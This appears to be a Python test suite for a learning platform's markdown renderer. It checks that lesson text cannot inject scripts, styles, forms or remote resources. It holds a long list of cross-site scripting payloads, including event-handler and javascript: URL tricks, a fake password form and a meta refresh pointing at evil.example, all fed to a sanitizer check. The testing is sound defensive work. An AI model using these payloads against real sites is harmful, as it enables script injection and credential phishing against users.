"""Nothing that a lesson says can run, call out, or disturb the page around it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lms.markdown import render, render_block, render_inline

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "<img src='x'onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x"onerror="alert(1)](y.png)',
    '![x](y.png "a\\" onerror=alert(1)")',
    '[x](y "t\\" onclick=\\"alert(1)")',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<textarea><script>alert(1)</script></textarea>",
    "<object data='x.swf'></object><embed src=x>",
    "<video src=//evil.example/x.mp4 autoplay onplay=alert(1)></video>",
    "<audio src=https://evil.example/x.mp3 controls></audio>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1)>x",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    '```x"><script>alert(1)</script>\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    "    </code><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '# <script>alert(1)</script> {#x" onclick="alert(1)}',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^a"onclick=alert(1)]\n\n[^a"onclick=alert(1)]: y',
    "> [!NOTE] <img src=x onerror=alert(1)>\n> x",
    "::: note <img src=x onerror=alert(1)>\nx\n:::",
    '{: onclick=alert(1) }\n\n![x](y){: onclick="alert(1)" alt=\'" onload="alert(1)\'}',
    '<img src="x" alt="a > b" title=\'<script>alert(1)</script>\'>',
    "<a title='<img src=x onerror=alert(1)>' href=x>y</a>",
    "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x0260\x03script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<?php echo '<script>' ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<hr class="embed-0">',
    'http://evil.example/"onclick=alert(1)',
    '<https://evil.example/"onclick=alert(1)>',
]
ALLOWED = {"input": {"type", "disabled", "checked", "aria-label"}, "use": {"href"}}
SCHEMES = ("http://", "https://", "mailto:", "tel:")


class Guard(HTMLParser):
    """Fails on anything that a lesson's page must not hold."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag not in {
            "script", "style", "iframe", "object", "embed", "form", "button", "textarea", "select", "link", "meta",
            "base", "math", "template", "noscript",
        }  # fmt: skip
        for name, value in attrs:
            assert not name.startswith("on")
            assert name not in {"style", "srcdoc", "action", "formaction", "autofocus", "autoplay", "xlink:href"}
            assert tag not in ALLOWED or name in ALLOWED[tag]
            if name in {"href", "src", "poster"}:
                self.check_url(tag, value or "")
            if name in {"id", "name"}:
                assert (value or "").startswith("t-")
        if tag == "input":
            assert ("type", "checkbox") in attrs
            assert ("disabled", None) in attrs

    def check_url(self, tag: str, url: str) -> None:
        bare = re.sub(r"[\x00-\x20]", "", url).lower()
        assert not re.match(r"[a-z][a-z0-9+.-]*:", bare) or bare.startswith(SCHEMES)
        if tag in {"img", "video", "audio", "source", "use"}:
            assert not bare.startswith(("http:", "https:", "//"))


def guard(html: str) -> None:
    guarded = Guard(convert_charrefs=True)
    guarded.feed(html)
    guarded.close()


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("frame", ["{}", "- {}", "> {}", "text {} text", "| a |\n|---|\n| {} |"])
def test_attack_is_harmless(attack: str, frame: str):
    text = frame.format(attack)
    guard(render(text).html)
    guard(render_block(text))
    guard(render_inline(text))


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(ATTACKS) | st.text(max_size=12) | st.text(alphabet="<>[]()!\"'`*_~{}:|\n #-&;=/ a"), max_size=5
    )
)
def test_any_text_renders_and_is_harmless(pieces: list[str]):
    text = "".join(pieces)
    guard(render(text).html)
    guard(render_inline(text))


def test_scripts_go_with_their_contents():
    assert render("a\n\n<script>\nalert(1)\n</script>\n\nb").html.split() == ["<p>a</p>", "<p>b</p>"]


def test_unclosed_script_takes_nothing_with_it():
    assert "after" in render("- <script>\n\nafter").html
    assert "after" in render("- <!-- open\n\nafter").html


def test_ids_names_and_links_to_them_get_a_prefix():
    html = render('<a name="old"></a><b id="menu">x</b> [to](#menu)\n\n# Menu').html
    assert 'name="t-old"' in html
    assert '<b id="t-menu">' in html
    assert '<a href="#t-menu">' in html
    assert '<h1 id="t-menu">' in html


def test_only_known_classes_stay():
    html = render('<div class="note head skip note-warn">x</div>').html
    assert 'class="note note-warn"' in html


def test_external_links_say_so_and_others_do_not():
    html = render("[a](https://example.org) [b](c.md) [d](//example.org/x)").html
    assert '<a href="https://example.org" rel="noopener noreferrer">' in html
    assert '<a href="c.md">' in html
    assert '<a href="//example.org/x" rel="noopener noreferrer">' in html


def test_remote_image_becomes_a_link():
    html = render("![The form](https://pics.example/a.png)").html
    assert html == (
        '<p><a href="https://pics.example/a.png" rel="noopener noreferrer">The form (picture on pics.example)</a></p>'
    )


def test_remote_image_in_a_link_leaves_its_words():
    assert render("[![Build](https://pics.example/a.svg)](https://ci.example)").html == (
        '<p><a href="https://ci.example" rel="noopener noreferrer">Build</a></p>'
    )


def test_remote_decoration_of_a_heading_goes():
    assert render("# ![](https://pics.example/logo.png) Name").html == '<h1 id="t-name"> Name</h1>'


def test_frame_becomes_a_link_to_its_page():
    html = render('<iframe src="https://films.example/embed/1" width="500"></iframe>').html
    assert '<a href="https://films.example/embed/1" rel="noopener noreferrer">Page on films.example</a>' in html
